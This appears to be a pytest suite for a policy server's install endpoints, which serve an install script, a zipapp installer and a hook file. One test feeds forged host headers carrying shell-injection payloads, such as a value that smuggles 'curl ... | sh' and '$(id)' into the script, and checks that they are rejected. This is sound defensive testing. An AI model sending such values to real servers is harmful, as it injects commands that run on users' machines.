"""``GET /install.sh``, ``/v1/install/reins-installer.pyz`` and ``/v1/install/reins_hook.py``."""

from __future__ import annotations

import io
import subprocess
import zipfile
from pathlib import Path

import pytest
from flask import Flask

from policy_server import installer_zipapp as zipapp
from policy_server.app import create_app
from policy_server.config import ConfigError, load

ROOT = Path(__file__).resolve().parents[3]


def served_url(script: str) -> str:
    line = next(x for x in script.splitlines() if x.startswith("REINS_SERVER="))
    return line.split("=", 1)[1].strip("'")


def test_install_sh_is_public_and_names_the_server_it_came_from(client) -> None:
    response = client.get("/install.sh", base_url="http://reins.internal:8700")
    assert response.status_code == 200
    assert response.mimetype == "text/x-shellscript"
    script = response.get_data(as_text=True)
    assert served_url(script) == "http://reins.internal:8700"
    assert "__REINS_SERVER_URL__" not in script
    assert "Host" in response.headers["Vary"] and response.headers["Cache-Control"] == "no-cache"
    # The served script still parses as POSIX sh.
    checked = subprocess.run(["sh", "-n"], input=script, text=True, capture_output=True)
    assert checked.returncode == 0, checked.stderr


def test_install_sh_follows_the_proxy_headers(client) -> None:
    headers = {"X-Forwarded-Proto": "https", "X-Forwarded-Host": "reins.example.com, 10.0.0.5"}
    script = client.get("/install.sh", headers=headers).get_data(as_text=True)
    assert served_url(script) == "https://reins.example.com"


def test_configured_public_url_wins_over_headers(db: Path) -> None:
    app = create_app({"db": str(db), "policies": None, "public_url": "https://reins.acme.dev/r"})
    try:
        response = app.test_client().get("/install.sh", headers={"X-Forwarded-Host": "evil.test"})
        assert served_url(response.get_data(as_text=True)) == "https://reins.acme.dev/r"
    finally:
        app.extensions["reins"].committer.close()


@pytest.mark.parametrize(
    "host",
    ["evil.test';curl${IFS}x|sh;'", "a b", "$(id)", "host`id`", "x\\y", ""],
)
def test_a_forged_host_header_never_reaches_the_script(client, host: str) -> None:
    response = client.get("/install.sh", headers={"X-Forwarded-Host": host or " "})
    if host == "":  # blank header: falls back to the real Host
        assert response.status_code == 200
        return
    assert response.status_code == 400
    assert "public_url" in response.get_json()["error"]["message"]


@pytest.mark.parametrize("bad", ["ftp://x", "http://a b", "http://x/'", "https://x/$(id)", "x"])
def test_public_url_setting_is_validated(bad: str) -> None:
    with pytest.raises(ConfigError, match="public_url"):
        load({}, environ={"REINS_PUBLIC_URL": bad})


def test_public_url_setting_accepts_ports_paths_and_ipv6() -> None:
    for good in ("http://127.0.0.1:8700", "https://reins.example.com/team/", "http://[::1]:8700"):
        assert load({}, environ={"REINS_PUBLIC_URL": good})["public_url"] == good.rstrip("/")


def test_every_download_revalidates_with_its_etag(client) -> None:
    for path in ("/install.sh", "/v1/install/reins-installer.pyz", "/v1/install/reins_hook.py"):
        first = client.get(path)
        assert first.status_code == 200 and first.headers["ETag"], path
        again = client.get(path, headers={"If-None-Match": first.headers["ETag"]})
        assert again.status_code == 304 and again.data == b"", path


def test_hook_client_is_served_verbatim(client) -> None:
    response = client.get("/v1/install/reins_hook.py")
    assert response.data == (ROOT / "hooks" / "reins_hook.py").read_bytes()
    assert response.mimetype == "text/x-python"


def test_zipapp_holds_installers_tomlkit_hook_and_engine_but_not_the_server(client) -> None:
    response = client.get("/v1/install/reins-installer.pyz")
    assert response.headers["Content-Disposition"] == "attachment; filename=reins-installer.pyz"
    names = set(zipfile.ZipFile(io.BytesIO(response.data)).namelist())
    assert {"__main__.py", "installers/__main__.py", "installers/client_files.py"} <= names
    assert "tomlkit/__init__.py" in names and "hooks/reins_hook.py" in names
    engine = {p.name for p in (ROOT / "policy_server" / "engine").glob("*.py")}
    assert {n.rsplit("/", 1)[1] for n in names if n.startswith("policy_server/engine/")} == engine
    assert "policy_server/__init__.py" not in names
    assert not [n for n in names if n.endswith(".pyc") or "__pycache__" in n]


def test_zipapp_build_is_deterministic_and_cached_per_app(app: Flask, client) -> None:
    first = client.get("/v1/install/reins-installer.pyz")
    cached = app.extensions["reins_install"]["pyz"]
    second = client.get("/v1/install/reins-installer.pyz")
    assert app.extensions["reins_install"]["pyz"] is cached
    assert first.data == second.data == zipapp.build().data
    assert first.headers["ETag"].strip('"') == cached.etag


def test_missing_sources_give_a_clear_503(tmp_path: Path) -> None:
    (tmp_path / "installers").mkdir()
    (tmp_path / "installers" / "__main__.py").write_text("")
    with pytest.raises(zipapp.ZipappSourceError, match=r"hooks/reins_hook\.py"):
        zipapp.sources(tmp_path)
